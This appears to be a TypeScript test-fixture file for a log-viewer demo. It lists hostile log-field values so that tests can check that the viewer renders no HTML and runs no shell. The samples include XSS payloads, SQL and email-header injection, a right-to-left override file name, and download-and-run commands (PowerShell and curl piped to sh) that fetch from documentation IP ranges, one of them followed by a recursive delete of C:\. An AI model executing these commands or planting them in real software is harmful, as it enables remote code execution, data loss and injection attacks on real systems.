/**
 * Hostile-but-realistic values: what an attacker can put into a log field. The demo seeds a small share of
 * rows with them so every run of the demo exercises the safety rules (no HTML rendering, no shell, argv
 * kept verbatim). Tests find those rows with `findHostileRows`.
 */
import type { LogRow } from './log-row.ts';

export interface HostileSample {
  /** Short name for reports and test titles. */
  name: string;
  field: 'URL' | 'Object' | 'Process' | 'Login' | 'Subject' | 'SHostName';
  value: string;
}

const longQuery = Array.from({ length: 400 }, (_, i) => `p${i}=${'A'.repeat(12)}`).join('&');

export const HOSTILE_SAMPLES: readonly HostileSample[] = [
  {
    name: 'script tag in URL',
    field: 'URL',
    value: 'http://portal.example.net/search?q=<script>alert(document.domain)</script>',
  },
  {
    name: 'img onerror in file name',
    field: 'Object',
    value: 'C:\\Users\\Public\\<img src=x onerror=alert(1)>.docx',
  },
  {
    name: 'cmd metacharacters',
    field: 'Process',
    value: 'cmd.exe /c "whoami & net user /domain | findstr /i admin > %TEMP%\\u.txt" && del %TEMP%\\u.txt',
  },
  {
    name: 'PowerShell download cradle with subexpression',
    field: 'Process',
    value:
      'powershell.exe -nop -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.66/a.ps1\'); $(Remove-Item -Recurse C:\\)"',
  },
  {
    name: 'POSIX shell substitution',
    field: 'Process',
    value: "sh -c 'curl -s http://198.51.100.23/x.sh | sh; echo `id` $(uname -a)'",
  },
  { name: 'value that looks like a switch', field: 'Login', value: '--output=/tmp/pwned' },
  { name: 'quote and SQL in login', field: 'Login', value: "jsmith'; DROP TABLE users;--" },
  {
    name: 'header injection in subject',
    field: 'Subject',
    value: 'Invoice overdue\r\nBcc: attacker@example.net',
  },
  {
    name: 'right-to-left override in file name',
    field: 'Object',
    value: 'C:\\Users\\Public\\invoice_\u202Efdp.exe',
  },
  { name: 'HTML in host name', field: 'SHostName', value: '"><svg/onload=alert(1)>' },
  { name: 'very long URL', field: 'URL', value: `https://cdn-updates.example.net/track?${longQuery}` },
];

/** Rows whose field holds one of the hostile samples verbatim, with the sample. */
export function findHostileRows<T extends Partial<LogRow>>(
  rows: readonly T[],
): { row: T; sample: HostileSample }[] {
  const found: { row: T; sample: HostileSample }[] = [];
  for (const row of rows) {
    for (const sample of HOSTILE_SAMPLES) {
      if (row[sample.field] === sample.value) {
        found.push({ row, sample });
        break;
      }
    }
  }
  return found;
}
